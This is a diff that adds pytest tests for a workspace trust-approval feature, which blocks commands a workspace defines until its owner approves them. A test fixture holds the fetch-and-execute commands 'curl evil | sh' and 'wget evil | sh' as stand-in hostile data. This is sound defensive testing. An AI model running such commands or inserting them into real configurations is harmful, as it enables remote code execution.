@@ -1,0 +1,180 @@
+"""Trust: nothing that a workspace defines runs before its owner approved exactly that, at that place."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from jobs.trust import NotTrusted, TrustFile, definitions_of
+from jobs.workspace import Workspace, init_workspace, open_workspace
+from store.clock import CountingTokens, FakeClock
+
+HOSTILE = "targets:\n  - {nome: producao, smoke: [sh, -c, 'curl evil | sh']}\n"
+
+
+def shop(tmp_path: Path, config: str = "", name: str = "shop") -> Workspace:
+    paths = init_workspace(tmp_path / name, CountingTokens())
+    paths.config.write_text("id: t1\n" + config)
+    return open_workspace(paths.root)
+
+
+def approve(file: TrustFile, workspace: Workspace) -> None:
+    seen = file.check(workspace.paths, workspace.config)
+    file.approve(workspace.paths, workspace.config, FakeClock(), seen)
+
+
+def check(file: TrustFile, workspace: Workspace) -> bool:
+    return file.check(workspace.paths, workspace.config).trusted
+
+
+@pytest.fixture
+def file(tmp_path: Path) -> TrustFile:
+    return TrustFile(tmp_path / "state" / "oficina" / "trust.json")
+
+
+def test_a_workspace_that_defines_nothing_has_nothing_to_approve(tmp_path: Path, file: TrustFile) -> None:
+    workspace = shop(tmp_path, "fuso: UTC\n")
+    (workspace.paths.root / "pricing.yaml").write_text("versao: x")
+    trust = file.check(workspace.paths, workspace.config)
+    assert trust.trusted
+    assert trust.definitions == []
+    trust.require(workspace.paths.root)
+
+
+def test_a_command_is_asked_about_and_then_trusted(tmp_path: Path, file: TrustFile) -> None:
+    workspace = shop(tmp_path, HOSTILE)
+    trust = file.check(workspace.paths, workspace.config)
+    assert not trust.trusted
+    assert any("curl evil | sh" in line for line in trust.difference)
+    with pytest.raises(NotTrusted) as caught:
+        trust.require(workspace.paths.root)
+    assert caught.value.exit_code == 2
+    assert str(caught.value) == (
+        f"{workspace.paths.root} is not trusted yet: it defines oficina.yaml: target producao"
+        " (look at what it defines and approve it with `oficina trust`)"
+    )
+    approve(file, workspace)
+    assert check(file, workspace)
+    assert file.check(workspace.paths, workspace.config).difference == []
+    assert file.path.stat().st_mode & 0o777 == 0o600
+    assert file.path.parent.stat().st_mode & 0o777 == 0o700
+
+
+def test_a_change_is_shown_as_a_difference_and_asked_again(tmp_path: Path, file: TrustFile) -> None:
+    workspace = shop(tmp_path, HOSTILE)
+    approve(file, workspace)
+    workspace.paths.config.write_text("id: t1\n" + HOSTILE.replace("curl", "wget"))
+    changed = open_workspace(workspace.paths.root)
+    trust = file.check(changed.paths, changed.config)
+    assert not trust.trusted
+    assert '-  "curl evil | sh"' in trust.difference
+    assert '+  "wget evil | sh"' in trust.difference
+
+
+def test_taking_a_definition_away_needs_no_approval(tmp_path: Path, file: TrustFile) -> None:
+    workspace = shop(tmp_path, HOSTILE)
+    approve(file, workspace)
+    workspace.paths.config.write_text("id: t1\n")
+    assert check(file, open_workspace(workspace.paths.root))
+
+
+def test_a_copy_elsewhere_or_with_another_id_is_not_trusted(tmp_path: Path, file: TrustFile) -> None:
+    workspace = shop(tmp_path, HOSTILE)
+    approve(file, workspace)
+    assert not check(file, shop(tmp_path, HOSTILE, "clone"))
+    workspace.paths.config.write_text("id: t2\n" + HOSTILE)
+    assert not check(file, open_workspace(workspace.paths.root))
+
+
+def test_only_what_was_seen_is_approved(tmp_path: Path, file: TrustFile) -> None:
+    workspace = shop(tmp_path, HOSTILE)
+    seen = file.check(workspace.paths, workspace.config)
+    workspace.paths.config.write_text("id: t1\n" + HOSTILE.replace("curl", "wget"))
+    swapped = open_workspace(workspace.paths.root)
+    file.approve(swapped.paths, swapped.config, FakeClock(), seen)
+    assert not check(file, swapped)
+
+
+@pytest.mark.parametrize("name", ["actors", "capabilities", "contracts", "policy"])
+def test_files_that_run_or_decide_are_definitions(tmp_path: Path, file: TrustFile, name: str) -> None:
+    workspace = shop(tmp_path)
+    (workspace.paths.root / f"{name}.yaml").write_bytes(b"x: \x1b[31m\xff")
+    trust = file.check(workspace.paths, workspace.config)
+    assert [definition.name for definition in trust.definitions] == [f"{name}.yaml"]
+    assert len(trust.definitions[0].sha256) == 64
+    assert all(line.isprintable() for line in trust.difference)
+    assert not trust.trusted
+
+
+@pytest.mark.parametrize(
+    ("config", "names"),
+    [
+        ("targets: [{nome: a, rede: true}]\n", ["oficina.yaml: target a"]),
+        ("targets: [{nome: a, dir: /srv}]\n", ["oficina.yaml: target a"]),
+        ("targets: [{nome: a, dir: .oficina/../x}]\n", ["oficina.yaml: target a"]),
+        ("targets: [{nome: a}]\n", []),
+        ("secrets: {T: {file: /home/me/.ssh/id}}\n", ["oficina.yaml: secret T"]),
+        ("sandbox: {below_full: all}\n", ["oficina.yaml: sandbox"]),
+        ("sandbox: {below_full: none}\n", []),
+    ],
+)
+def test_what_of_the_configuration_is_a_definition(tmp_path: Path, config: str, names: list[str]) -> None:
+    workspace = shop(tmp_path, config)
+    assert [each.name for each in definitions_of(workspace.paths, workspace.config)] == names
+
+
+@pytest.mark.parametrize("content", ["not json", "[]", '{"%s": 3}', '{"%s": {"id": "t1", "definicoes": 3}}'])
+def test_a_damaged_record_approves_nothing(tmp_path: Path, file: TrustFile, content: str) -> None:
+    workspace = shop(tmp_path, HOSTILE)
+    approve(file, workspace)
+    file.path.write_text(content.replace("%s", str(workspace.paths.root)))
+    assert not check(file, workspace)
+    approve(file, workspace)
+    assert check(file, workspace)
+
+
+def test_a_record_that_others_can_write_approves_nothing(tmp_path: Path, file: TrustFile) -> None:
+    workspace = shop(tmp_path, HOSTILE)
+    approve(file, workspace)
+    file.path.chmod(0o622)
+    assert not check(file, workspace)
+    file.path.chmod(0o600)
+    target = file.path.rename(tmp_path / "planted.json")
+    file.path.symlink_to(target)
+    assert not check(file, workspace)
+
+
+def test_the_record_is_whole_or_not_at_all(
+    tmp_path: Path, file: TrustFile, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    workspace = shop(tmp_path, HOSTILE)
+    approve(file, workspace)
+    before = file.path.read_text()
+
+    def full(_descriptor: int) -> None:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr("jobs.trust.os.fsync", full)
+    with pytest.raises(OSError, match="No space"):
+        approve(file, workspace)
+    assert file.path.read_text() == before
+    assert [each.name for each in file.path.parent.iterdir()] == ["trust.json"]
+
+
+def test_where_the_record_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    assert TrustFile.default({"XDG_STATE_HOME": "/state"}).path == Path("/state/oficina/trust.json")
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.delenv("XDG_STATE_HOME", raising=False)
+    home = tmp_path / ".local" / "state" / "oficina" / "trust.json"
+    assert TrustFile.default().path == home
+    assert TrustFile.default({"XDG_STATE_HOME": "relative"}).path == home
+
+
+def test_other_workspaces_keep_their_approvals(tmp_path: Path, file: TrustFile) -> None:
+    one, two = shop(tmp_path, HOSTILE), shop(tmp_path, HOSTILE, "two")
+    approve(file, one)
+    approve(file, two)
+    assert check(file, one)
+    assert len(json.loads(file.path.read_text())) == 2
